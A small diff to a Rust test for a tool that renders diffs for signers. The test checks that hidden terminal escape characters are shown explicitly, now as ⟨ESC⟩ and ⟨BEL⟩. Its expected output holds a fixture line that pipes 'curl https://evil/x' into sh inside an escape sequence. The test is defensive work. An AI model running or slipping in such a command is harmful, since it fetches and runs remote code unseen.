@@ -164,7 +164,7 @@ async fn those_who_sign_are_shown_every_byte(pool: PgPool) {
     let diff = detail.diff.clone().expect("a diff");
     assert!(
         diff.shown()
-            .ends_with("\n+: ␛];curl https://evil/x|sh #␇\n"),
+            .ends_with("\n+: ⟨ESC⟩];curl https://evil/x|sh #⟨BEL⟩\n"),
         "{}",
         diff.shown()
     );
